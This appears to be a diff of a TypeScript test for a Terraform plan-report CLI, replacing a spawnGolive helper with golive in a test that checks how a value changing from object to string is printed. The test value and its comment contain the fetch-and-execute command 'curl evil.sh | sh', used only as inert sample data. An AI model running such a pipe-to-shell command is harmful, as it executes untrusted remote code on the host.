@@ -1,7 +1,7 @@
 import { writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { diffAttributes } from "../../lib/core/plan/attribute-diff";
-import { golive, spawnGolive, tempDir } from "../helpers/cli";
+import { golive, tempDir } from "../helpers/cli";
 
 // A value that changes kind (object, list or scalar) is one line with both whole values, as Terraform
 // prints it (1.11.4: `~ input = { - a = "b" } -> "curl evil.sh | sh"`). Walked into whichever side was a
@@ -119,7 +119,7 @@ describe("golive plan-report shows a change of kind in Markdown and --json", () 
   test('Terraform 1.11.4\'s {a = "b"} -> string: the new value is on the line, both formats', async () => {
     const dir = tempDir("golive-kind-changes-");
     writeFileSync(join(dir, "app-staging.json"), planText(dataUpdate({ a: "b" }, "curl evil.sh | sh")));
-    const md = await spawnGolive(["plan-report", "app-staging.json"], { cwd: dir });
+    const md = await golive(["plan-report", "app-staging.json"], { cwd: dir });
     expect({ code: md.code, stderr: md.stderr }).toEqual({ code: 0, stderr: "" });
     expect(md.stdout).toContain('input: {"a":"b"} -> "curl evil.sh | sh"');
     expect(md.stdout).not.toContain("input.a");
